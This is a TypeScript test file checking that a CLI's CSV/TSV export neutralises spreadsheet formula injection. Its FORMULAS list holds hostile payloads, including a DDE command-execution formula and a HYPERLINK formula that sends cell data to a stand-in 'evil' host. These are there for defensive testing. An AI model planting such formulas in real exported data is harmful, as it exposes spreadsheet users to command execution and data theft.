import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { asCsv, asTsv, withoutFormulas } from '../../../lib/cli/table.js';

/** What Excel, WPS and LibreOffice run when a file is opened (OWASP, CSV Injection). */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil/?"&A1)',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－A1',
  '＠SUM(1)',
  '-',
  '=',
];
const HARMLESS = ['-5', '+3', '-1.50', '-1e-7', '-.5', '+2.', '2024-02-29', 'a=b', 'x@y', '', ' =1', '你好'];

describe('a result for a spreadsheet', () => {
  const names = ['=name', 'a'];

  it('has no cell that is run', () => {
    const { names: heads, rows } = withoutFormulas({ names, rows: FORMULAS.map((each) => [each, 'x']) });
    expect(heads).toEqual([`'=name`, 'a']);
    expect(rows).toEqual(FORMULAS.map((each) => [`'${each}`, 'x']));
  });

  it('has numbers and what is no formula as they are, and NULL', () => {
    const table = { names: ['a'], rows: [...HARMLESS, undefined].map((each) => [each]) };
    expect(withoutFormulas(table)).toEqual(table);
  });

  it('begins no cell with what begins a formula, but for numbers', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n＝0123.e"\',a') }),
        fc.constantFrom(asCsv, asTsv),
        (cell, write) => {
          const safe = withoutFormulas({ names: ['n'], rows: [[cell]] });
          const [[shown]] = safe.rows as [[string]];
          if (/^[=+\-@\t\r\n＝]/.test(shown)) expect(Number.isNaN(Number(shown))).toBe(false);
          expect([cell, `'${cell}`]).toContain(shown);
          expect(write(safe)).toMatch(/^n\n/);
        },
      ),
    );
  });

  it('is otherwise what the server said', () => {
    expect(asCsv({ names: ['a'], rows: FORMULAS.slice(0, 1).map((each) => [each]) })).toBe(
      `a\n=cmd|' /C calc'!A0`,
    );
  });
});
